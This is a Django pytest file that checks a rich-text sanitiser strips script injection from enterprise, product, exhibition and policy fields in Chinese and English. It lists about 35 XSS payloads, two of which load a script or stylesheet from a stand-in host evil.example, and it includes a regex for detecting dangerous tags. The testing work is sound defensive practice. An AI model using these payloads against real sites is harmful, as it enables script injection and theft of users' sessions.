"""Editors' rich text is sanitised on save: nothing typed can run script on the site."""

import re

import pytest
from django.utils import translation

from enterprises.richtext import sanitize

from .factories import EnterpriseFactory, ExhibitionFactory, PolicyFactory, ProductFactory

# Classic script-injection vectors (OWASP XSS filter evasion cheat sheet and friends).
PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert('XSS')>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">click</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">tab</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    "<style>@import 'http://evil.example/xss.css';</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<p onclick=alert(1)>paragraph</p>",
    '<a href="https://ok.example" onmouseover="alert(1)">link</a>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<base href="javascript:alert(1)//">',
    '"><script>alert(1)</script>',
    '<video><source onerror="alert(1)"></video>',
]

DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|svg|math|style|link|meta|form|input|base|body|img|"
    r"video|source|template|noscript|details)\b|\bon[a-z]+\s*=|javascript:|vbscript:|data:text",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_removes_every_script_vector(payload):
    cleaned = sanitize(payload)
    assert not DANGEROUS.search(cleaned), cleaned


def test_harmless_formatting_and_links_survive():
    html = (
        "<p>Made in <strong>Shenyang</strong>, <em>since 2002</em>.</p>"
        '<ul><li>robots</li></ul><a href="https://example.com/">site</a>'
    )
    cleaned = sanitize(html)
    for kept in ("<strong>Shenyang</strong>", "<em>since 2002</em>", "<li>robots</li>"):
        assert kept in cleaned
    assert 'href="https://example.com/"' in cleaned and 'rel="noopener noreferrer nofollow"' in (
        cleaned
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("factory", "field"),
    [
        (EnterpriseFactory, "description"),
        (ProductFactory, "description"),
        (ExhibitionFactory, "description"),
        (PolicyFactory, "text"),
    ],
)
def test_every_rich_text_field_is_sanitised_on_save_in_both_languages(client, factory, field):
    payload = "".join(PAYLOADS)
    entry = factory(**{f"{field}_zh_hans": payload, f"{field}_en": payload})
    entry.refresh_from_db()
    for language in ("zh_hans", "en"):
        stored = getattr(entry, f"{field}_{language}")
        assert not DANGEROUS.search(stored), stored
    for language in ("zh-hans", "en"):
        with translation.override(language):
            url = entry.get_absolute_url()
        response = client.get(url)
        assert response.status_code == 200
        body = response.content.decode().split("<main", 1)[1].split("</main>", 1)[0]
        assert not DANGEROUS.search(body), body[:500]


@pytest.mark.django_db
def test_plain_text_is_escaped_not_interpreted(client):
    firm = EnterpriseFactory(summary_en="Tom & Jerry <script>alert(1)</script>")
    with translation.override("en"):
        url = firm.get_absolute_url()
    html = client.get(url).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)</script>" not in html
